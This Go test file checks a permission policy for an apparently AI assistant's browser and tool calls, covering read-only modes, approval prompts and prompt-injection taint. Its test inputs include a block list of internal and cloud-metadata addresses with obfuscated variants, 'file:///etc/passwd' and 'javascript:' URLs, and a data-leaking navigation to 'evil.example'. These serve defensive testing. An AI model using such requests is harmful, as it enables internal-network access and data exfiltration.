package policy

import (
	"strings"
	"testing"

	"sextant/shared/event"
	"sextant/shared/toolspec"
)

func TestAllowsInterfaceToolsOnOpenPage(t *testing.T) {
	for _, in := range []Input{
		pageCall("navigate_page", `{"url":"https://shop.example/lamps"}`).hosts("shop.example"),
		pageCall("annotate_page", `{}`),
		pageCall("click_element", `{"annotationId":12}`),
		pageCall("type_text", `{"annotationId":12,"text":"10437"}`).about(`[12] textbox "Postcode"`,
			"10437").hosts("shop.example"),
		pageCall("scroll_page", `{"direction":"down"}`),
	} {
		wantVerdict(t, in, VerdictAllow)
		wantVerdict(t, in.alone().caller(toolspec.CallerMCP), VerdictAllow)
	}
}

func TestAllowsReadOnlyTools(t *testing.T) {
	read := toolspec.Hints{ReadOnly: true}
	wantVerdict(t, baselineCall("files", "read_file", `{"path":"a"}`, read), VerdictAllow)
	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_list", "notes", `{}`, read), VerdictAllow)
	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_list", "notes", `{}`, read).alone(), VerdictAllow)
}

func TestRefusesThisMachineAndPrivateNetworks(t *testing.T) {
	for _, host := range []string{
		"127.0.0.1", "localhost", "LOCALHOST.", "foo.localhost:3000", "[::1]:8080", "10.1.2.3", "192.168.1.1",
		"172.20.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "127.1", "0x7f.0.0.1", "2130706433", "017700000001",
		"[::ffff:127.0.0.1]", "[fe80::1%25eth0]", "[fd00::1]", "router", "printer.local", "198.18.0.1",
		"[64:ff9b::7f00:1]",
		"127。0。0。1", "１２７.0.0.1",
	} {
		t.Run(host, func(t *testing.T) {
			d := wantVerdict(t, pageCall("navigate_page", `{"url":"http://`+host+`/"}`), VerdictRefuse)
			if d.ErrorType != toolspec.PermissionError {
				t.Errorf("%s: got %s", host, d.ErrorType)
			}
			wantVerdict(
				t,
				baselineCall("web", "http_request", `{"url":"http://`+host+`/"}`, toolspec.Hints{}).mode(ModeFull),
				VerdictRefuse,
			)
		})
	}
	for _, host := range []string{"shop.example", "93.184.216.34", "[2606:4700::1111]", "shop.example:8443"} {
		wantVerdict(t, pageCall("navigate_page", `{"url":"http://`+host+`/"}`), VerdictAllow)
	}
}

func TestJudgesDisguisedAddress(t *testing.T) {
	for _, address := range []string{
		`http:\\127.0.0.1\`, `http://shop.example@127.0.0.1/`, " \thttp://127.0.0.1/", "http://127.0.0.1\n/",
		"127.0.0.1:80",
		"//127.0.0.1/x",
	} {
		in := pageCall("navigate_page", `{}`)
		in.Call.Args = []byte(`{"url":` + quoteJSON(address) + `}`)
		wantVerdict(t, in, VerdictRefuse)
	}
}

func TestTypedAddressOpensHost(t *testing.T) {
	in := pageCall("navigate_page", `{"url":"http://127.0.0.1:8080/form"}`)
	d := wantVerdict(t, in.typedHosts("127.0.0.1:8080"), VerdictAllow)
	if len(d.OpenedHosts) != 1 || d.OpenedHosts[0] != "127.0.0.1:8080" {
		t.Fatalf("opens %v", d.OpenedHosts)
	}
	wantVerdict(t, in.typedHosts("127.0.0.1"), VerdictRefuse) // the usual ports only
	usual := pageCall("navigate_page", `{"url":"http://127.0.0.1/form"}`)
	wantVerdict(t, usual.typedHosts("127.0.0.1"), VerdictAllow)
	wantVerdict(t, usual.typedHosts("127.0.0.1:80"), VerdictAllow)
	wantVerdict(t, usual.typedHosts("127.0.0.1:8080"), VerdictRefuse)
	wantVerdict(t, in.typedHosts("127.0.0.1:9090"), VerdictRefuse)
	in.OpenedHosts = d.OpenedHosts
	if d := wantVerdict(t, in, VerdictAllow); len(d.OpenedHosts) != 0 {
		t.Fatalf("it opens %v, which nobody typed in this turn", d.OpenedHosts)
	}
}

func TestAllowHostsOpensHostForPrograms(t *testing.T) {
	in := pageCall("navigate_page", `{"url":"http://localhost:3000/"}`).alone().caller(toolspec.CallerMCP)
	d := wantVerdict(t, in, VerdictRefuse)
	if !strings.Contains(d.Suggestion, "--allow-hosts localhost:3000") {
		t.Fatalf("suggestion %q does not name the option", d.Suggestion)
	}
	in.Settings.AllowHosts = []string{"127.0.0.1", "localhost"}
	wantVerdict(t, in, VerdictAllow)
}

func TestRefusesOtherSchemesEvenWhenTyped(t *testing.T) {
	for _, address := range []string{
		"file:///etc/passwd", "chrome://settings", "javascript:alert(1)", "view-source:https://a.example",
		"data:text/html,x",
		"ja\tvascript:alert(1)", "FILE:///x", "devtools://x", "file:80",
	} {
		t.Run(address, func(t *testing.T) {
			in := pageCall("navigate_page", `{}`).typedHosts("etc", "settings")
			in.Call.Args = []byte(`{"url":` + quoteJSON(address) + `}`)
			d := wantVerdict(t, in.mode(ModeFull), VerdictRefuse)
			if d.ErrorType != toolspec.SecurityError {
				t.Errorf("%s: got %s (%s)", address, d.ErrorType, d.Reason)
			}
		})
	}
	wantVerdict(t, pageCall("navigate_page", `{"url":"about:blank"}`), VerdictAllow)
}

func TestReadOnlyModeRefusesChanges(t *testing.T) {
	for _, tool := range []string{"navigate_page", "annotate_page", "scroll_page", "take_screenshot", "wait_for"} {
		wantVerdict(t, pageCall(tool, `{}`).mode(ModeReadOnly), VerdictAllow)
	}
	wantVerdict(t, baselineCall("navigation", "open_home_panel", `{}`, toolspec.Hints{}).mode(ModeReadOnly),
		VerdictAllow)
	wantVerdict(t, baselineCall("files", "read_file", `{}`, toolspec.Hints{ReadOnly: true}).mode(ModeReadOnly),
		VerdictAllow)
	for _, in := range []Input{
		pageCall("click_element", `{"annotationId":1}`), pageCall("type_text", `{"annotationId":1,"text":"x"}`),
		pageCall("press_key", `{"key":"Enter"}`),
		baselineCall("files", "write_file", `{}`, toolspec.Hints{}),
		externalCall(toolspec.OriginPanel, "scroll_page", "x", `{}`, toolspec.Hints{}),
		baselineCall("feedback", "enhance_baseline_prompt", `{}`, toolspec.Hints{}),
	} {
		wantVerdict(t, in.mode(ModeReadOnly), VerdictRefuse)
		wantVerdict(t, in.mode(ModeReadOnly).caller(toolspec.CallerPerson), VerdictRefuse)
	}
}

func TestAsksForDestructiveTools(t *testing.T) {
	for name, hints := range map[string]toolspec.Hints{
		"confirm": {Confirm: true}, "destructive": {Destructive: true}, "open world": {OpenWorld: true},
	} {
		for _, origin := range []toolspec.Origin{toolspec.OriginPanel, toolspec.OriginMCP, toolspec.OriginCreated} {
			t.Run(name+" "+string(origin), func(t *testing.T) {
				in := externalCall(origin, "do_it", "desk", `{"id":7}`, hints)
				d := wantVerdict(t, in, VerdictAsk)
				if !strings.HasSuffix(d.Approval.Question, "?") || !strings.Contains(d.Approval.Question, "“do it”") {
					t.Errorf("question %q", d.Approval.Question)
				}
				wantVerdict(t, in.mode(ModeFull), VerdictAllow)
				wantVerdict(t, in.alone(), VerdictRefuse)
			})
		}
	}
	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_add", "notes", `{}`, toolspec.Hints{}), VerdictAllow)
}

func TestAsksForFirstRequestToHost(t *testing.T) {
	in := baselineCall("web", "http_request", `{"url":"https://api.example/v1"}`,
		toolspec.Hints{OpenWorld: true}).hosts("api.example")
	d := wantVerdict(t, in, VerdictAsk)
	if len(d.ContactedHosts) != 1 || d.ContactedHosts[0] != "api.example" {
		t.Fatalf("contacts %v", d.ContactedHosts)
	}
	used := in
	used.UsedHosts = d.ContactedHosts
	wantVerdict(t, used, VerdictAllow)
	used.UsedHosts = []string{"example"}
	wantVerdict(t, used, VerdictAsk)
	wantVerdict(t, in.typedHosts("api.example"), VerdictAllow)
	if d := wantVerdict(t, in.alone(), VerdictRefuse); !strings.Contains(d.Suggestion, "--allow-hosts api.example") {
		t.Fatalf("suggestion %q", d.Suggestion)
	}
}

func TestYesToAnswersForRun(t *testing.T) {
	get := baselineCall("web", "wget", `{"uri":"https://a.example/"}`,
		toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("a.example").alone()
	post := externalCall(toolspec.OriginPanel, "drop", "db", `{}`, toolspec.Hints{Destructive: true}).alone()
	get, post = get.caller(toolspec.CallerRun), post.caller(toolspec.CallerRun)
	if d := wantVerdict(t, get, VerdictRefuse); !strings.Contains(d.Suggestion, "--yes-to read") {
		t.Fatalf("suggestion %q", d.Suggestion)
	}
	if d := wantVerdict(t, post, VerdictRefuse); !strings.Contains(d.Suggestion, "--yes-to all") {
		t.Fatalf("suggestion %q", d.Suggestion)
	}
	get.Call.From.YesTo, post.Call.From.YesTo = "read", "read"
	wantVerdict(t, get, VerdictAllow)
	wantVerdict(t, post, VerdictRefuse)
	post.Call.From.YesTo = "all"
	wantVerdict(t, post, VerdictAllow)
	local := pageCall("navigate_page", `{"url":"http://10.0.0.1/"}`).alone().caller(toolspec.CallerRun)
	local.Call.From.YesTo = "all"
	wantVerdict(t, local, VerdictRefuse)
	client := externalCall(toolspec.OriginPanel, "drop", "db", `{}`,
		toolspec.Hints{Destructive: true}).alone().caller(toolspec.CallerMCP)
	client.Call.From.YesTo = "all"
	wantVerdict(t, client, VerdictRefuse)
}

func TestTaintedContextAsksForWhatTakesDataOut(t *testing.T) {
	shop := "https://shop.example"
	nav := pageCall("navigate_page", `{"url":"https://evil.example/?q=secret"}`).hosts("evil.example").read(shop)
	d := wantVerdict(t, nav, VerdictAsk)
	if !strings.Contains(d.Approval.Reason, shop) ||
		!strings.Contains(d.Approval.Question, "https://evil.example/?q=secret") {
		t.Fatalf("%+v", d.Approval)
	}
	wantVerdict(t, nav.mode(ModeFull), VerdictAsk)
	wantVerdict(t, nav.typedHosts("evil.example"), VerdictAllow)
	linked := nav
	linked.Description.IsPageLink = true
	wantVerdict(t, linked, VerdictAllow)
	wantVerdict(t, pageCall("navigate_page", `{"url":"https://shop.example/b"}`).hosts("shop.example").read(shop),
		VerdictAllow)

	typed := pageCall(
		"type_text",
		`{"annotationId":3,"text":"10437"}`,
	).about(`[3] textbox "Postcode"`, "10437").
		read(shop)
	wantVerdict(t, typed.hosts("shop.example"), VerdictAllow)
	wantVerdict(t, typed.hosts("other.example"), VerdictAsk)
	copied := typed.hosts("shop.example")
	copied.Description.CopiedFrom = []string{"notes/address.md"}
	if d := wantVerdict(t, copied, VerdictAsk); !strings.Contains(d.Approval.Reason, "notes/address.md") {
		t.Fatalf("why %q", d.Approval.Reason)
	}
	wantVerdict(t, pageCall("click_element", `{"annotationId":3}`).hosts("other.example").read(shop), VerdictAllow)

	for _, in := range []Input{
		baselineCall("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{}),
		baselineCall("files", "write_file", `{"path":"a","content":"b"}`,
			toolspec.Hints{}).mode(ModeWorkspace).about("a", "b"),
		externalCall(toolspec.OriginMCP, "gh__comment", "gh", `{}`, toolspec.Hints{}),
		baselineCall("web", "wget", `{"uri":"https://shop.example/"}`,
			toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("shop.example"),
	} {
		wantVerdict(t, in.read(shop), VerdictAsk)
		wantVerdict(t, in.read(shop).mode(ModeFull), VerdictAsk)
		wantVerdict(t, in.read(shop).alone(), VerdictRefuse)
	}
	wantVerdict(t, baselineCall("feedback", "enhance_baseline_prompt", `{"note":"x"}`,
		toolspec.Hints{}).read(shop).caller(toolspec.CallerPilot), VerdictAllow)
	wantVerdict(t, baselineCall("files", "read_file", `{"path":"a"}`, toolspec.Hints{ReadOnly: true}).read(shop),
		VerdictAllow)
}

func TestAsksBeforeStoringInstructionsAfterReadingFile(t *testing.T) {
	note := baselineCall("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{})
	wantVerdict(t, note, VerdictAllow)
	note.Description.ReadSources = []string{"file /home/ana/flat/README.md"}
	for _, mode := range []Mode{ModeAsk, ModeWorkspace, ModeFull} {
		t.Run(string(mode), func(t *testing.T) {
			if d := wantVerdict(t, note.mode(mode), VerdictAsk); !strings.Contains(d.Approval.Reason,
				"file /home/ana/flat/README.md") {
				t.Errorf("why %q", d.Approval.Reason)
			}
		})
	}
	wantVerdict(t, note.alone(), VerdictRefuse)
	look := baselineCall("feedback", "list_notes", `{}`, toolspec.Hints{ReadOnly: true})
	look.Description.ReadSources = note.Description.ReadSources
	wantVerdict(t, look, VerdictAllow)
	other := pageCall("click_element", `{"annotationId":3}`)
	other.Description.ReadSources = note.Description.ReadSources
	wantVerdict(t, other, VerdictAllow)
}

func TestWorkspaceModeCoversOnlyFolder(t *testing.T) {
	del := toolspec.Hints{Destructive: true}
	in := baselineCall("files", "write_file", `{}`, del).mode(ModeWorkspace)
	wantVerdict(t, in.about("notes/a.md", "x"), VerdictAllow)
	wantVerdict(t, in.about("/home/ana/flat/b", "x"), VerdictAllow)
	wantVerdict(t, in.about("/home/ana/flat2/b", "x"), VerdictAsk)
	wantVerdict(t, in.about("../x", "x"), VerdictAsk)
	wantVerdict(t, in.about("", "x"), VerdictAsk)
	wantVerdict(t, in.mode(ModeAsk).about("notes/a.md", "x"), VerdictAsk)
	wantVerdict(t, externalCall(toolspec.OriginPanel, "w", "p", `{}`, del).mode(ModeWorkspace).about("notes/a.md", ""),
		VerdictAsk)
}

func TestQuestionHashBindsCall(t *testing.T) {
	in := externalCall(toolspec.OriginPanel, "drop", "db", `{"b":1,"a":"<x>"}`, toolspec.Hints{Destructive: true})
	d := wantVerdict(t, in, VerdictAsk)
	a := d.Approval
	if string(a.Args) != `{"a":"<x>","b":1}` || a.Hash != hashOf(in) || len(a.Hash) != 64 {
		t.Fatalf("%+v", a)
	}
	reordered := in
	reordered.Call.Args = []byte(`{"a":"<x>", "b":1}`)
	if Decide(reordered).Approval.Hash != a.Hash {
		t.Fatal("the order of names changes the hash")
	}
	other := in
	other.Call.From.Turn = "t2"
	if Decide(other).Approval.Hash == a.Hash {
		t.Fatal("another turn has the same hash")
	}
	var answers []event.Answer
	for _, c := range a.Choices {
		answers = append(answers, c.Answer)
		if c.Scope == "" {
			t.Fatalf("%s has no scope", c.Answer)
		}
	}
	if len(answers) != 4 || answers[0] != event.AnswerOnce || answers[3] != event.AnswerDeny {
		t.Fatalf("answers %v", answers)
	}
	outsideOfOne := in
	outsideOfOne.Call.From.Conversation = ""
	if d := Decide(outsideOfOne); len(d.Approval.Choices) != 3 {
		t.Fatalf("without a conversation: %+v", d.Approval.Choices)
	}
}

func titled(in Input, title string) Input { in.Description.Title = title; return in }

func says(in Input, sentence string) Input { in.Description.Sentence = sentence; return in }

func TestQuestionText(t *testing.T) {
	send := pageCall("type_text", `{"annotationId":12,"text":"10437"}`).about("the form",
		"10437").hosts("shop.example").read("https://b.example")
	long := send.about("the form", strings.Repeat("ä", 1204))
	start := externalCall(toolspec.OriginPanel, "count", "words", `{}`,
		toolspec.Hints{Confirm: true}).about("python3 server.py", "in the folder /p")
	first := start
	first.Description.NewProgram = "the Words panel's program"
	for want, in := range map[string]Input{
		"Start the Words panel's program: python3 server.py?": first,
		"Send “10437” to shop.example?":                       send,
		"Send 1,204 characters to shop.example?":              long,
		"Let the panel words run “count”?":                    start,
		"Let db run “drop”?": externalCall(toolspec.OriginMCP, "db__drop", "db",
			`{"name":"a","id":7}`, toolspec.Hints{Confirm: true}),
		"Let db run “Drop a table” and send “hi” to db.example?": titled(externalCall(toolspec.OriginMCP,
			"db__drop", "db", `{}`, toolspec.Hints{Confirm: true}), "Drop a table").about("db.example", "hi").
			hosts("db.example"),
		"Run “tidy up”, a tool that the assistant made?": externalCall(toolspec.OriginCreated, "tidy_up", "", `{}`,
			toolspec.Hints{}).read("https://a.example"),
		"Request api.example/v1 (GET)?": says(baselineCall("web", "http_request",
			`{"url":"https://api.example/v1"}`, toolspec.Hints{}), "Requesting api.example/v1 (GET)"),
		"Delete the tool tidy?": says(baselineCall("created", "delete_created_tool", `{}`,
			toolspec.Hints{Destructive: true}), "Deleting the tool tidy"),
		"Change 3 lines in notes.txt?": func() Input {
			in := fileCall("edit_file", toolspec.UseWrite, flat+"/notes.txt")
			in.Description.Question = "Change 3 lines in notes.txt?"
			return in
		}(),
		"Open https://evil.example/x?": pageCall("navigate_page",
			`{"url":"https://evil.example/x"}`).read("https://a.example"),
	} {
		t.Run(want, func(t *testing.T) {
			got := wantVerdict(t, in, VerdictAsk).Approval
			if got.Question != want {
				t.Errorf("got %q, want %q", got.Question, want)
			}
			if starts := strings.HasPrefix(want, "Start "); got.WindowOnly != starts {
				t.Errorf("%q is for a window only: %v", want, got.WindowOnly)
			}
		})
	}
}
